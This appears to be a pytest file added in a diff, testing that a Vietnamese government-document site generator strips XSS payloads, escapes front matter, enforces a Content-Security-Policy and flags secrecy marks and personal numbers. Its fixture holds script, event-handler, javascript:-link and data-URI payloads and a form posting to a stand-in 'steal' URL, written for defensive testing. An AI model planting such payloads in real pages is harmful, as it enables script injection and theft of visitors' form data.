@@ -1,0 +1,182 @@
+"""A plan carrying attacks: nothing executable reaches the built site, every page has a
+Content-Security-Policy that Chromium enforces without complaint, and secrets are refused."""
+
+from __future__ import annotations
+
+import re
+from html.parser import HTMLParser
+from pathlib import Path
+
+import pytest
+
+from conftest import copy_project, run_cli
+
+HOSTILE = """---
+title: "<script>alert('xss-title')</script> Kế hoạch \\" onmouseover=\\"alert('xss-attr')"
+doc_type: "Kế hoạch"
+issuer: "UBND xã <img src=x onerror=alert('xss-issuer')>"
+description: "\\"><script>alert('xss-description')</script>"
+signer: {name: "<b onclick=alert('xss-signer')>A</b>", title: "Chủ tịch"}
+---
+
+Thực hiện Chỉ thị số 33/CT-TTg ngày 26/11/2021 của Thủ tướng Chính phủ.
+
+<script>alert('xss-script')</script>
+
+<p onclick="alert('xss-onclick')">Đoạn có thuộc tính sự kiện.</p>
+
+[Bấm vào đây](javascript:alert('xss-js-link'))
+
+<a href="javascript:alert('xss-js-a')">liên kết</a>
+
+<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+" alt="xss-data-img">
+
+<iframe src="https://example.com/xss-iframe"></iframe>
+
+<style>body { background: url("https://example.com/xss-style") }</style>
+
+<form id="xss-form" action="https://example.com/steal"><input name="xss-input"><button>Gửi</button></form>
+
+<div class="cuoi-van-ban" markdown>
+Nội dung hợp lệ vẫn còn: **chữ đậm** và [liên kết nội bộ](../../gioi-thieu.md).
+</div>
+"""
+
+class _Elements(HTMLParser):
+    """Every element and attribute the browser would see; text is only text."""
+
+    def __init__(self, forms_allowed: bool):
+        super().__init__()
+        self.forms_allowed = forms_allowed
+        self.bad: list[str] = []
+        self.script_text: list[str] = []
+        self._in_script = False
+
+    def handle_starttag(self, tag, attrs):
+        for name, value in attrs:
+            value = (value or "").strip().lower()
+            if name.startswith("on"):
+                self.bad.append(f"<{tag} {name}>")
+            if name in ("href", "src", "action", "formaction") and value.startswith(("javascript:", "data:")):
+                self.bad.append(f"<{tag} {name}={value[:30]}>")
+            if "xss" in value and name in ("name", "src", "action"):  # slugs in href and id may spell it
+                self.bad.append(f"<{tag} {name}={value[:30]}>")
+        if tag in ("iframe", "object", "embed") or (tag in ("form", "input", "button", "textarea", "select") and not self.forms_allowed):
+            self.bad.append(f"<{tag}>")
+        self._in_script = tag in ("script", "style")
+
+    def handle_endtag(self, tag):
+        self._in_script = False
+
+    def handle_data(self, data):
+        if self._in_script and "xss" in data:
+            self.bad.append(f"script/style containing {data[:40]!r}")
+
+
+@pytest.fixture(scope="module")
+def hostile_site(tmp_path_factory) -> Path:
+    project = copy_project(tmp_path_factory.mktemp("hostile"))
+    (project / "content/ke-hoach/2025/tan-cong.md").write_text(HOSTILE, encoding="utf-8")
+    result = run_cli("build", cwd=project)
+    assert result.returncode == 0, result.stdout + result.stderr
+    return project / "site"
+
+
+def test_no_payload_survives_in_any_page(hostile_site):
+    page = (hostile_site / "ke-hoach/2025/tan-cong/index.html").read_text(encoding="utf-8")
+    assert "Đoạn có thuộc tính sự kiện." in page and "<strong>chữ đậm</strong>" in page  # content kept
+    # Nothing executable on any page (the header's search box is our own form, so forms are
+    # allowed outside the page content)...
+    for html in hostile_site.rglob("*.html"):
+        parser = _Elements(forms_allowed=True)
+        parser.feed(html.read_text(encoding="utf-8"))
+        assert parser.bad == [], f"{html.relative_to(hostile_site)}: {parser.bad}"
+    # ...and in the hostile plan's own content, no form element either.
+    article = page[page.index("<article"): page.index("</article>")]
+    strict = _Elements(forms_allowed=False)
+    strict.feed(article)
+    assert strict.bad == []
+    assert "xss-iframe" not in page and "xss-style" not in page and "example.com/steal" not in page
+
+
+def test_front_matter_values_are_escaped(hostile_site):
+    page = (hostile_site / "ke-hoach/2025/tan-cong/index.html").read_text(encoding="utf-8")
+    assert "&lt;script&gt;alert(&#39;xss-title&#39;)&lt;/script&gt;" in page or "&lt;script&gt;alert(&#x27;xss-title" in page
+    assert "<script>alert('xss-title')" not in page
+    assert "&lt;img src=x" in page  # the issuer, shown as text
+    for listing in ("index.html", "nam/chua-ro-nam/index.html", "co-quan/index.html"):
+        assert "<script>alert" not in (hostile_site / listing).read_text(encoding="utf-8")
+
+
+def test_every_page_carries_a_content_security_policy(hostile_site):
+    for html in hostile_site.rglob("*.html"):
+        text = html.read_text(encoding="utf-8")
+        match = re.search(r'<meta http-equiv="Content-Security-Policy" content="([^"]+)">', text)
+        assert match, html
+        policy = match.group(1)
+        assert "default-src 'self'" in policy and "object-src 'none'" in policy and "'unsafe-eval'" not in policy
+        assert "'unsafe-inline'" not in policy.split("script-src", 1)[1].split(";")[0]
+
+
+@pytest.mark.parametrize(
+    "body, line, words",
+    [
+        ("Nội dung.\n\n**TỐI MẬT**\n", 10, "dấu độ mật «TỐI MẬT»"),
+        ("Độ mật: Mật\n", 8, "dấu độ mật"),
+    ],
+)
+def test_secrecy_mark_is_an_error(tmp_path, body, line, words):
+    path = tmp_path / "mat.md"
+    path.write_text('---\ntitle: "A"\ndoc_type: "Kế hoạch"\nissuer: "UBND xã A"\n---\n\n' + "\n" + body, encoding="utf-8")
+    result = run_cli("check", str(path))
+    assert result.returncode == 1
+    assert f"{path}:{line}: lỗi: " in result.stdout and words in result.stdout
+
+
+def test_personal_identifiers_are_warnings_naming_the_line(tmp_path):
+    path = tmp_path / "ca-nhan.md"
+    path.write_text('---\ntitle: "A"\ndoc_type: "Kế hoạch"\nissuer: "UBND xã A"\n---\n\nBí mật nhà nước.\n'
+                    "Ông A, CCCD 038090001234, điện thoại 0912 345 678.\n", encoding="utf-8")
+    result = run_cli("check", str(path))
+    assert result.returncode == 0, result.stdout  # warnings only: "bí mật" is not a secrecy mark
+    assert f"{path}:8: cảnh báo: có dãy 12 chữ số «038090001234»" in result.stdout
+    assert f"{path}:8: cảnh báo: có số điện thoại «0912 345 678»" in result.stdout
+
+
+def test_chromium_reports_no_policy_violation(hostile_site):
+    import functools
+    import http.server
+    import threading
+
+    from test_browser import ARGS, CHROMIUM
+
+    sync_api = pytest.importorskip("playwright.sync_api")
+
+    class Quiet(http.server.SimpleHTTPRequestHandler):
+        def log_message(self, *args):
+            pass
+
+    httpd = http.server.ThreadingHTTPServer(("127.0.0.1", 0), functools.partial(Quiet, directory=str(hostile_site)))
+    threading.Thread(target=httpd.serve_forever, daemon=True).start()
+    base = f"http://127.0.0.1:{httpd.server_address[1]}"
+    pages = ["/", "/ke-hoach/2025/tan-cong/", "/ke-hoach/2025/hoang-hop-dan-van-chinh-quyen/", "/nam/",
+             "/van-ban/", "/van-ban/33-ct-ttg-2021/", "/dia-ban/", "/go-bo/", "/du-lieu-mo/", "/tim-kiem/?q=d%C3%A2n+v%E1%BA%ADn",
+             "/khong-co-trang-nay/"]
+    try:
+        with sync_api.sync_playwright() as p:
+            browser = p.chromium.launch(executable_path=CHROMIUM, args=ARGS)
+            for path in pages:
+                tab = browser.new_page()
+                tab.add_init_script("window.__violations = [];"
+                                    "document.addEventListener('securitypolicyviolation', e => window.__violations.push(e.violatedDirective + ' ' + e.blockedURI));")
+                dialogs = []
+                tab.on("dialog", lambda d: (dialogs.append(d.message), d.dismiss()))
+                tab.goto(base + path, wait_until="networkidle")
+                if path.startswith("/tim-kiem/"):
+                    tab.wait_for_function("() => /Tìm thấy|Không tìm thấy/.test(document.querySelector('.sb-search-page .sb-search__status').textContent)")
+                assert tab.evaluate("window.__violations") == [], path
+                assert dialogs == [], path  # no alert() ran
+                tab.close()
+            browser.close()
+    finally:
+        httpd.shutdown()
